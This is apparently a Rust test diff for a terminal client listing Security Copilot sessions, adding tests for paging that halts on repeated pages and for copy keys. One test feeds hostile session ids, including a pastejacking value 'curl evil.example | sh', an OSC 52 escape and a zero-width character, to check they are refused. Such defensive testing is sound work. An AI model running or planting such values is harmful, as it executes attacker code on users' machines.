@@ -82,6 +82,12 @@ fn page_req(state: &State) -> RequestId {
     state.requests.page().expect("a page request in flight")
 }
 
+/// The answer to the page request in flight.
+fn page_arrives(state: &mut State, first: bool, page: Page<Session>) -> Output {
+    let req = page_req(state);
+    update(state, Msg::Worker(Event::PageLoaded { req, first, page }))
+}
+
 /// The conversation request in flight for `session_id`.
 fn conversation_req(state: &State, session_id: &str) -> RequestId {
     state
@@ -166,6 +172,30 @@ fn list_is_sorted_newest_modified_first() {
 }
 
 #[test]
+fn a_page_that_brings_nothing_new_stops_paging_until_the_user_acts() {
+    // A server whose next page repeats the sessions already loaded, linking on forever.
+    let mut state = loaded(3, Some("next"));
+    let repeated = (0..3)
+        .map(|i| session(&format!("s{i}"), Some(&format!("Session {i}")), 59 - i))
+        .collect();
+    let output = page_arrives(&mut state, false, page(repeated, Some("next-again")));
+    assert!(
+        output.commands.is_empty(),
+        "no new request without a user action"
+    );
+    assert_eq!(state.paging.next_link, None);
+    assert!(
+        state
+            .status
+            .as_ref()
+            .unwrap()
+            .text
+            .contains("no new sessions")
+    );
+    assert!(update(&mut state, key(KeyCode::Up)).commands.is_empty());
+}
+
+#[test]
 fn moves_stay_in_range() {
     let mut state = loaded(25, None);
     assert_eq!(selected_id(&state), "s0");
@@ -242,15 +272,7 @@ fn prefetch_waits_until_the_selection_nears_the_end() {
     let sessions = (0..200)
         .map(|i| session(&format!("s{i:03}"), Some("x"), 30))
         .collect();
-    let req = page_req(&state);
-    let commands = update(
-        &mut state,
-        Msg::Worker(Event::PageLoaded {
-            req,
-            first: true,
-            page: page(sessions, Some("http://h/next")),
-        }),
-    );
+    let commands = page_arrives(&mut state, true, page(sessions, Some("http://h/next")));
     assert!(
         commands.commands.is_empty(),
         "200 rows loaded, selection at the top: no prefetch yet"
@@ -1104,6 +1126,36 @@ fn copy_keys_send_osc52_requests() {
         .into()
     );
     assert!(state.status.as_ref().unwrap().text.contains("Copied"));
+}
+
+#[test]
+fn copy_keys_copy_exactly_what_is_shown_and_refuse_hidden_characters() {
+    let mut state = loaded(1, None);
+    state.settings.graph_url = "https://graph.microsoft.com/beta".into();
+    state.workspace = "w s".into();
+    state.sessions[0].session.id = "a b".into();
+    let url =
+        "https://graph.microsoft.com/beta/security/securityCopilot/workspaces/w%20s/sessions/a%20b";
+    assert_eq!(update(&mut state, ch('Y')), Effect::Copy(url.into()).into());
+    assert!(state.status.as_ref().unwrap().text.ends_with(url));
+    // pastejacking: a newline and a shell command in the id
+    for hostile in [
+        "s0\ncurl evil.example | sh\n",
+        "s0\u{1b}]52;c;eA==\u{7}",
+        "s\u{200B}0",
+    ] {
+        state.sessions[0].session.id = hostile.into();
+        assert_eq!(update(&mut state, ch('y')), Output::none(), "{hostile:?}");
+        assert_eq!(update(&mut state, ch('Y')), Output::none(), "{hostile:?}");
+        assert!(
+            state
+                .status
+                .as_ref()
+                .unwrap()
+                .text
+                .starts_with("Not copied")
+        );
+    }
 }
 
 #[test]
